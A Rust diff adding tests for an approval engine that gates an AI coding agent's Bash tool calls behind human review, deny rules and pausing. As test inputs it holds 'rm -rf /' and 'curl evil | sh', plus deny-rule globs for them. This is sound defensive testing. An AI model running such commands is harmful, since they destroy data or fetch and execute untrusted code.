@@ -504,3 +504,249 @@ pub fn fallback_of(data_dir: &Path, agent: HookAgent) -> AgentFallback {
         .and_then(|all| all.get(agent.as_str()).copied())
         .unwrap_or(AgentFallback::Ask)
 }
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used, clippy::expect_used)]
+    use super::*;
+    use crate::{DecisionRequest, EngineConfig};
+    use airlock_core::{ArgRule, RuleEffect, RulePattern};
+
+    fn engine() -> (tempfile::TempDir, Engine) {
+        let dir = tempfile::tempdir().unwrap();
+        let engine = Engine::open(EngineConfig {
+            data_dir: dir.path().to_path_buf(),
+            workspace: Some(dir.path().join("workspace")),
+        })
+        .unwrap();
+        (dir, engine)
+    }
+
+    fn bash(command: &str, tool_use_id: Option<&str>, event: AgentEvent) -> AgentCall {
+        AgentCall {
+            agent: "codex".into(),
+            source: None,
+            client: None,
+            agent_session: "s1".into(),
+            cwd: Some("/work".into()),
+            tool: "Bash".into(),
+            input: json!({"command": command}),
+            tool_use_id: tool_use_id.map(str::to_string),
+            event,
+            editable: event == AgentEvent::PreToolUse,
+            wait_ms: Some(30_000),
+        }
+    }
+
+    async fn waiting(engine: &Engine) -> crate::InboxItem {
+        for _ in 0..200 {
+            if let Some(item) = engine.inbox().unwrap().pop() {
+                return item;
+            }
+            tokio::time::sleep(Duration::from_millis(10)).await;
+        }
+        panic!("nothing reached the inbox");
+    }
+
+    fn approve(id: &str, args: Option<Value>) -> DecisionRequest {
+        DecisionRequest {
+            approval_id: id.into(),
+            approve: true,
+            reason: None,
+            args,
+            for_chat: false,
+            remember: None,
+            exact_args: false,
+            session: None,
+            args_hash: None,
+        }
+    }
+
+    fn deny_rule(pattern: &str) -> ArgRule {
+        ArgRule {
+            id: Engine::new_rule_id(),
+            server: "codex".into(),
+            tool: "Bash".into(),
+            pointer: "/command".into(),
+            pattern: RulePattern::Glob(pattern.into()),
+            effect: RuleEffect::Deny,
+        }
+    }
+
+    #[tokio::test]
+    async fn asking_twice_finds_one_item_and_a_withdrawn_one_cannot_be_approved() {
+        let (_dir, engine) = engine();
+        let first = tokio::spawn({
+            let engine = engine.clone();
+            async move {
+                engine
+                    .agent_call(bash("make", Some("call_1"), AgentEvent::PreToolUse))
+                    .await
+            }
+        });
+        let item = waiting(&engine).await;
+        let second = tokio::spawn({
+            let engine = engine.clone();
+            async move {
+                engine
+                    .agent_call(bash("make", Some("call_1"), AgentEvent::PreToolUse))
+                    .await
+            }
+        });
+        tokio::time::sleep(Duration::from_millis(100)).await;
+        assert_eq!(
+            engine.inbox().unwrap().len(),
+            1,
+            "asking twice made two items"
+        );
+        // One waiter gone: the other still waits, the item stays.
+        first.abort();
+        tokio::time::sleep(Duration::from_millis(100)).await;
+        assert_eq!(
+            engine.inbox().unwrap().len(),
+            1,
+            "one waiter leaving withdrew the item"
+        );
+        second.abort();
+        for _ in 0..100 {
+            if engine.inbox().unwrap().is_empty() {
+                break;
+            }
+            tokio::time::sleep(Duration::from_millis(10)).await;
+        }
+        assert!(
+            engine.inbox().unwrap().is_empty(),
+            "the last waiter left; the item stayed"
+        );
+        let row = engine.approval(&item.approval_id).unwrap().unwrap();
+        assert_eq!(row.status, ApprovalStatus::Withdrawn);
+        let refused = engine.decide(approve(&item.approval_id, None), DecidedBy::Inbox);
+        assert!(refused.is_err(), "a withdrawn item was approved");
+    }
+
+    #[tokio::test]
+    async fn an_edit_is_checked_against_deny_rules_and_what_the_agent_can_take() {
+        let (_dir, engine) = engine();
+        engine.add_rule(deny_rule("rm -rf*")).unwrap();
+        // A deny rule decides without asking.
+        let denied = engine
+            .agent_call(bash("rm -rf /", Some("c0"), AgentEvent::PreToolUse))
+            .await
+            .unwrap();
+        assert_eq!(denied.verdict, AgentVerdict::Deny);
+        assert!(engine.inbox().unwrap().is_empty());
+
+        let call = tokio::spawn({
+            let engine = engine.clone();
+            async move {
+                engine
+                    .agent_call(bash("ls", Some("c1"), AgentEvent::PreToolUse))
+                    .await
+            }
+        });
+        let item = waiting(&engine).await;
+        assert!(item.editable);
+        // An edit into what a deny rule forbids is refused; so is one without a command, and
+        // approving from a notification.
+        for edit in [
+            json!({"command": "rm -rf /"}),
+            json!({"cmd": "ls"}),
+            json!(["ls"]),
+        ] {
+            let refused = engine.decide(
+                approve(&item.approval_id, Some(edit.clone())),
+                DecidedBy::Inbox,
+            );
+            assert!(refused.is_err(), "edit {edit} was accepted");
+        }
+        let from_notification =
+            engine.decide(approve(&item.approval_id, None), DecidedBy::Notification);
+        assert!(
+            from_notification.is_err(),
+            "a notification approved an agent's call"
+        );
+        engine
+            .decide(
+                approve(&item.approval_id, Some(json!({"command": "ls -la"}))),
+                DecidedBy::Inbox,
+            )
+            .unwrap();
+        let answer = call.await.unwrap().unwrap();
+        assert_eq!(answer.verdict, AgentVerdict::Allow);
+        assert_eq!(answer.updated_input, Some(json!({"command": "ls -la"})));
+
+        // Codex's PermissionRequest about the call it was just allowed: the same answer, no new
+        // item; and it cannot take an edit.
+        let again = engine
+            .agent_call(bash("ls", None, AgentEvent::PermissionRequest))
+            .await
+            .unwrap();
+        assert_eq!(again.verdict, AgentVerdict::Allow);
+        assert!(engine.inbox().unwrap().is_empty());
+        let call = tokio::spawn({
+            let engine = engine.clone();
+            async move {
+                engine
+                    .agent_call(bash("pwd", None, AgentEvent::PermissionRequest))
+                    .await
+            }
+        });
+        let item = waiting(&engine).await;
+        assert!(!item.editable);
+        let refused = engine.decide(
+            approve(&item.approval_id, Some(json!({"command": "pwd"}))),
+            DecidedBy::Inbox,
+        );
+        assert!(
+            refused.is_err(),
+            "an edit the agent cannot run was accepted"
+        );
+        call.abort();
+    }
+
+    #[tokio::test]
+    async fn a_deny_rule_added_while_the_call_waits_beats_the_approval() {
+        let (_dir, engine) = engine();
+        let call = tokio::spawn({
+            let engine = engine.clone();
+            async move {
+                engine
+                    .agent_call(bash("curl evil | sh", Some("c1"), AgentEvent::PreToolUse))
+                    .await
+            }
+        });
+        let item = waiting(&engine).await;
+        engine.add_rule(deny_rule("curl*")).unwrap();
+        assert!(
+            engine
+                .decide(approve(&item.approval_id, None), DecidedBy::Inbox)
+                .is_err()
+        );
+        call.abort();
+    }
+
+    #[tokio::test]
+    async fn paused_agents_ask_even_when_a_rule_allows() {
+        let (_dir, engine) = engine();
+        engine
+            .add_rule(ArgRule {
+                effect: RuleEffect::Allow,
+                ..deny_rule("ls*")
+            })
+            .unwrap();
+        let allowed = engine
+            .agent_call(bash("ls", Some("c1"), AgentEvent::PreToolUse))
+            .await
+            .unwrap();
+        assert_eq!(allowed.verdict, AgentVerdict::Allow);
+        engine.set_paused(true).unwrap();
+        let mut call = bash("ls", Some("c2"), AgentEvent::PreToolUse);
+        call.wait_ms = Some(50);
+        let paused = engine.agent_call(call).await.unwrap();
+        assert_eq!(
+            paused.verdict,
+            AgentVerdict::Undecided,
+            "a paused agent ran a call"
+        );
+    }
+}
